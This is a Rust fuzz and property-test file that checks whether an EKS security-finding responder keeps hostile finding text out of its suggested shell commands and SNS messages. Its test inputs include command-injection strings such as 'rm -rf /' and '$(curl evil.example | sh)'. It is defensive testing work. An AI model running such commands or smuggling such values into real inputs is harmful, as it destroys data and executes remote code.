//! Hostile input through the whole path — parse, gate, classify, plan and message rendering — with
//! the live cluster mocked: no panic, the SNS subject stays printable ASCII under 100 characters,
//! and every value inside a suggested shell command is quoted, so finding text can never become a
//! command. `make test` runs a bounded number of cases; `make fuzz` runs 100,000 and more
//! (PROPTEST_CASES).

use proptest::prelude::*;
use serde_json::{Value, json};
use shared::output::report::Report;
use shared::pipeline::{Remediation, ResponderError, respond};
use shared::testing::{ClusterFixture, config, eks_client, event, mocked_deps};
use shared::{Mode, Trait};

/// Outside single quotes, only characters that a POSIX shell treats as plain word text; or a
/// single-line comment (a command held back until a blocker clears).
fn shell_safe(cli: &str) -> bool {
    if cli.starts_with('#') {
        return !cli.chars().any(char::is_control);
    }
    let mut in_quote = false;
    let mut chars = cli.chars().peekable();
    while let Some(c) = chars.next() {
        if in_quote {
            if c == '\'' {
                in_quote = false;
            }
            continue;
        }
        match c {
            '\'' => in_quote = true,
            '\\' if chars.peek() == Some(&'\'') => {
                chars.next();
            }
            c if c.is_ascii_alphanumeric() || " _-./:=,@%+".contains(c) => {}
            _ => return false,
        }
    }
    !in_quote
}

fn check_report(
    r: &Report,
    published: &[aws_sdk_sns::operation::publish::PublishInput],
) -> Result<(), String> {
    for step in r.plan.iter().chain(&r.follow_ups) {
        if !shell_safe(&step.cli) {
            return Err(format!("unquoted shell text in: {}", step.cli));
        }
    }
    if let Some(cli) = r.revert.as_ref().and_then(|v| v.cli.as_deref())
        && !shell_safe(cli)
    {
        return Err(format!("unquoted shell text in revert: {cli}"));
    }
    for p in published {
        let subject = p.subject().unwrap_or_default();
        if subject.len() >= 100
            || !subject.chars().all(|c| c.is_ascii_graphic() || c == ' ')
            || subject.is_empty()
        {
            return Err(format!("bad SNS subject {subject:?}"));
        }
        let total = p.message().map_or(0, str::len)
            + p.message_attributes().map_or(0, |a| {
                a.iter()
                    .map(|(k, v)| k.len() + v.string_value().map_or(0, str::len))
                    .sum()
            });
        if total > 256 * 1024 {
            return Err(format!("SNS message of {total} bytes"));
        }
    }
    Ok(())
}

/// Run one event through every function with a mocked live cluster.
/// Returns the number of plan steps each function produced.
async fn through_every_function(event: Value) -> Result<Vec<usize>, String> {
    async fn one<R: Remediation>(fix: &R, event: Value) -> Result<usize, String> {
        // As the runtime hands it over: the event's JSON text.
        let event = serde_json::value::to_raw_value(&event).map_err(|e| e.to_string())?;
        let mut cluster = ClusterFixture::new("payments-prod");
        cluster.version = "1.24".into();
        // Propose: the whole decision and message path runs; no mutating call is mocked.
        use shared::testing::aws_smithy_mocks::mock;
        let versions = mock!(aws_sdk_eks::Client::describe_cluster_versions).then_output(|| {
            aws_sdk_eks::operation::describe_cluster_versions::DescribeClusterVersionsOutput::builder().build()
        });
        let nodegroups = mock!(aws_sdk_eks::Client::list_nodegroups).then_output(|| {
            aws_sdk_eks::operation::list_nodegroups::ListNodegroupsOutput::builder().build()
        });
        let insights = mock!(aws_sdk_eks::Client::list_insights).then_output(|| {
            aws_sdk_eks::operation::list_insights::ListInsightsOutput::builder().build()
        });
        let eks = eks_client(&[&cluster.describe_rule(), &versions, &nodegroups, &insights]);
        let (d, cap) = mocked_deps(config(Mode::Propose), eks);
        match respond(fix, &d, event, None).await {
            Ok(r) => check_report(&r, &cap.published()).map(|()| r.plan.len() + r.follow_ups.len()),
            Err(ResponderError::InvalidFinding(_)) => Ok(0),
            Err(ResponderError::Transient(e)) => Err(format!("unexpected transient error: {e}")),
        }
    }
    let endpoint = endpoint_access::EndpointAccess::new(endpoint_access::Settings {
        stage_soak_minutes: 0,
        ..endpoint_access::Settings::default()
    });
    let secrets = secrets_encryption::SecretsEncryption::new(
        secrets_encryption::Settings::from_env(&std::collections::HashMap::new())
            .map_err(|e| e.to_string())?,
    );
    // Enrichment off: the CVE path is planned and rendered from what the finding carries.
    let no_enrichment =
        std::collections::HashMap::from([("MAX_ENRICHED_SIGNALS".to_string(), "0".to_string())]);
    let vulnerabilities = container_vulnerabilities::ContainerVulnerabilities::new(
        container_vulnerabilities::Settings::from_env(&no_enrichment).map_err(|e| e.to_string())?,
        shared::testing::aws_smithy_mocks::mock_client!(aws_sdk_securityhub, &[]),
    );
    let steps = vec![
        one(&endpoint, event.clone()).await?,
        one(&secrets, event.clone()).await?,
        one(&kubernetes_version::KubernetesVersion::new(), event.clone()).await?,
        one(&vulnerabilities, event).await?,
    ];
    Ok(steps)
}

fn block_on<F: std::future::Future>(f: F) -> F::Output {
    tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .expect("runtime")
        .block_on(f)
}

/// Strings a hostile or broken producer could put in a finding.
fn hostile_text() -> impl Strategy<Value = String> {
    prop_oneof![
        ".{0,60}",
        "[\\x00-\\x1f\\x7f]{1,20}",
        Just("payments-prod; rm -rf / #".to_string()),
        Just("$(curl evil.example | sh)".to_string()),
        Just("`id`\n'\"\\".to_string()),
        Just("платёжный-кластер-🚀".to_string()),
        Just("\u{202e}evil\u{200b}".to_string()),
        Just("a".repeat(300)),
    ]
}

/// Set the field at `pointer` (JSON pointer), creating the last key where its parent exists.
fn set(v: &mut Value, pointer: &str, value: Value) {
    let (parent, key) = pointer.rsplit_once('/').unwrap_or(("", pointer));
    match v.pointer_mut(parent) {
        Some(Value::Object(m)) => {
            m.insert(key.to_string(), value);
        }
        Some(Value::Array(a)) => {
            if let Some(slot) = key.parse::<usize>().ok().and_then(|i| a.get_mut(i)) {
                *slot = value;
            }
        }
        _ => {}
    }
}

const F: &str = "/detail/findings/0";

proptest! {
    #![proptest_config(ProptestConfig {
        cases: std::env::var("PROPTEST_CASES").ok().and_then(|c| c.parse().ok()).unwrap_or(600),
        .. ProptestConfig::default()
    })]

    #[test]
    fn hostile_text_anywhere_a_person_reads_is_contained(
        sample in prop::sample::select(vec![
            "eks-public-access.json", "eks-multi-trait.json", "eks-unencrypted-secrets.json",
            "eks-cross-account-uid-alt.json", "eks-preview-shape.json", "eks-high-priority-vulnerability.json",
        ]),
        name in hostile_text(),
        title in hostile_text(),
        tag in hostile_text(),
        signal_title in hostile_text(),
        severity in hostile_text(),
        uid in hostile_text(),
    ) {
        let mut v = event(sample);
        let p = |s: &str| format!("{F}/{s}");
        for (field, value) in [
            (p("resources/0/name"), json!(name)),
            (p("resources/0/uid"), json!(format!("arn:aws:eks:us-east-1:444455556666:cluster/{name}"))),
            (p("finding_info/title"), json!(title)),
            (p("resources/0/tags/0/value"), json!(tag)),
            (p("finding_info/related_events/0/title"), json!(signal_title)),
            (p("severity"), json!(severity)),
            (p("metadata/uid"), json!(uid)),
        ] {
            set(&mut v, &field, value);
        }
        let result = block_on(through_every_function(v));
        prop_assert!(result.is_ok(), "{}", result.err().unwrap_or_default());
    }
}

#[test]
fn a_256_kib_event_with_10000_signals_is_handled() {
    let mut v = event("eks-multi-trait.json");
    let template = v["detail"]["findings"][0]["finding_info"]["related_events"][0].clone();
    let mut signals = Vec::new();
    for i in 0..10_000 {
        let mut s = template.clone();
        s["uid"] = json!(format!(
            "arn:aws:securityhub:us-east-1:444455556666:security-control/EKS.1/finding/{i:08}"
        ));
        signals.push(s);
    }
    v["detail"]["findings"][0]["finding_info"]["related_events"] = Value::Array(signals);
    v["detail"]["findings"][0]["finding_info"]["desc"] = json!("x".repeat(256 * 1024));
    let size = v.to_string().len();
    assert!(size > 256 * 1024, "{size}");
    assert_eq!(block_on(through_every_function(v)).map(|s| s.len()), Ok(4));
}

#[test]
fn deeply_nested_json_is_rejected_not_overflowed() {
    // 100,000 levels: the runtime's payload step skips over the text without recursing (it only
    // checks that it is JSON), and the typed parser refuses the first level that has the wrong
    // type; neither overflows the stack.
    let deep = format!(
        r#"{{"source":"aws.securityhub","detail-type":"Findings Imported V2","detail":{{"findings":{}{}}}}}"#,
        "[".repeat(100_000),
        "]".repeat(100_000)
    );
    let payload = serde_json::from_str::<shared::lambda::Payload>(&deep)
        .expect("the runtime hands well-formed JSON over as text");
    let err = shared::event::gate::IncomingEvent::parse(&payload).expect_err("too deep");
    assert!(err.path().starts_with("$.detail.findings"), "{err}");
    let err = shared::event::gate::parse_event(deep.as_bytes()).expect_err("too deep");
    assert!(err.path().starts_with("$.detail.findings"), "{err}");
    let mut nested = json!(1);
    for _ in 0..120 {
        nested = json!({ "a": nested });
    }
    let mut v = event("eks-public-access.json");
    v["detail"]["findings"][0]["finding_info"]["related_events"][0]["extra"] = nested;
    assert_eq!(block_on(through_every_function(v)).map(|s| s.len()), Ok(4));
}

#[test]
fn the_whole_path_is_exercised_for_every_function() {
    // Guard against a property that passes because nothing reaches the plan: with the
    // multi-trait sample every function plans, and so its commands are checked.
    let steps =
        block_on(through_every_function(event("eks-multi-trait.json"))).expect("no violation");
    assert_eq!(steps.len(), 4);
    assert!(
        steps.iter().all(|n| *n > 0),
        "plan steps per function: {steps:?}"
    );
}

#[test]
fn the_shell_check_itself_catches_unquoted_text() {
    assert!(shell_safe(
        "aws eks describe-cluster --name 'a; b' --region us-east-1"
    ));
    assert!(shell_safe(r"aws x --v 'it'\''s'"));
    assert!(!shell_safe("aws eks describe-cluster --name a;b"));
    assert!(!shell_safe("aws eks describe-cluster --name $(id)"));
    assert!(!shell_safe("aws x --v 'unterminated"));
    assert!(shell_safe(
        "# BLOCKED until the insight clears - do not run yet: aws eks x"
    ));
    assert!(!shell_safe(
        "# BLOCKED until\nrm -rf / - do not run yet: aws eks x"
    ));
    // The trait list is what functions own.
    assert_eq!(Trait::ALL.len(), 5);
}
